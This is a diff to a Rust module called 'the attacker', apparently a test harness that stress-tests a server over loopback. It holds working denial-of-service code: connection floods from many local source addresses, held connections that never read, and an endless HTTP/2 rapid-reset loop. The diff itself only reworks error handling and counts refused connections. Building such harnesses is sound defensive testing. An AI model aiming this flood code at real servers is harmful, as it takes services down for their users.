@@ -1,6 +1,6 @@
 //! The attacker.
 
-use std::{env, future::pending, net::SocketAddr, time::Duration};
+use std::{env, future::pending, io, net::SocketAddr, time::Duration};
 
 use bytes::Bytes;
 use futures_util::{StreamExt, stream};
@@ -62,7 +62,7 @@ async fn attacks_as_it_is_told() {
 /// Opens connections from some addresses, and sends something on each.
 pub async fn connect_many(address: &str, count: usize, addresses: usize, sent: &[u8]) -> Vec<TcpStream> {
     let connections = stream::iter(0..count).map(async |n| {
-        let mut connection = connect(address, &format!("127.0.1.{}", 1 + n % addresses)).await;
+        let mut connection = connect(address, &format!("127.0.1.{}", 1 + n % addresses)).await.unwrap();
         // The server may have closed it already.
         let _ = connection.write_all(sent).await;
         connection
@@ -72,7 +72,7 @@ pub async fn connect_many(address: &str, count: usize, addresses: usize, sent: &
 
 /// The status of an answer to a client with this address.
 pub async fn status(address: &str, source: &str, path: &str) -> Option<u16> {
-    let mut connection = connect(address, source).await;
+    let mut connection = connect(address, source).await.unwrap();
     let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
     connection.write_all(request.as_bytes()).await.ok()?;
     let mut answer = String::new();
@@ -81,11 +81,11 @@ pub async fn status(address: &str, source: &str, path: &str) -> Option<u16> {
 }
 
 /// A connection from this address, which can hold few bytes that nobody reads.
-async fn connect(address: &str, source: &str) -> TcpStream {
+async fn connect(address: &str, source: &str) -> io::Result<TcpStream> {
     let socket = TcpSocket::new_v4().unwrap();
     socket.set_recv_buffer_size(4096).unwrap();
     socket.bind(SocketAddr::new(source.parse().unwrap(), 0)).unwrap();
-    socket.connect(address.parse().unwrap()).await.unwrap()
+    socket.connect(address.parse().unwrap()).await
 }
 
 async fn hold(connections: Vec<TcpStream>) {
@@ -95,7 +95,7 @@ async fn hold(connections: Vec<TcpStream>) {
 }
 
 async fn http2(address: &str) -> Option<(client::SendRequest<Bytes>, tokio::task::JoinHandle<()>)> {
-    let connection = connect(address, "127.0.1.1").await;
+    let connection = connect(address, "127.0.1.1").await.ok()?;
     // Each answer stops at its first byte.
     let mut builder = client::Builder::new();
     builder.initial_window_size(1).initial_max_send_streams(10_000);
@@ -144,22 +144,27 @@ async fn wait_in_vain(address: &str, path: &str, count: usize) {
 }
 
 async fn reset_for_ever(address: &str) {
-    let (mut resets, mut connections) = (0_u64, 0_u64);
+    let (mut resets, mut connections, mut refused) = (0_u64, 0_u64, 0_u64);
     loop {
-        let Some((requests, connection)) = http2(address).await else { continue };
-        connections += 1;
-        // The server closes the connection of such a client.
-        while let Ok(mut ready) = requests.clone().ready().await {
-            let Ok((_, mut stream)) = ready.send_request(get(address, "/new"), true) else { break };
-            stream.send_reset(Reason::CANCEL);
-            resets += 1;
-            if resets.is_multiple_of(20_000) {
-                println!("attacking with {resets} resets on {connections} connections");
-            }
-            if resets.is_multiple_of(64) {
-                tokio::task::yield_now().await;
+        let before = resets;
+        match http2(address).await {
+            None => refused += 1,
+            Some((requests, connection)) => {
+                // The server closes the connection of such a client.
+                while let Ok(mut ready) = requests.clone().ready().await {
+                    let Ok((_, mut stream)) = ready.send_request(get(address, "/new"), true) else { break };
+                    stream.send_reset(Reason::CANCEL);
+                    resets += 1;
+                    if resets.is_multiple_of(64) {
+                        tokio::task::yield_now().await;
+                    }
+                }
+                connection.abort();
             }
         }
-        connection.abort();
+        connections += 1;
+        if connections == 1 || connections.is_multiple_of(1_000) || resets / 20_000 > before / 20_000 {
+            println!("attacking with {resets} resets on {connections} connections, of which {refused} were refused");
+        }
     }
 }
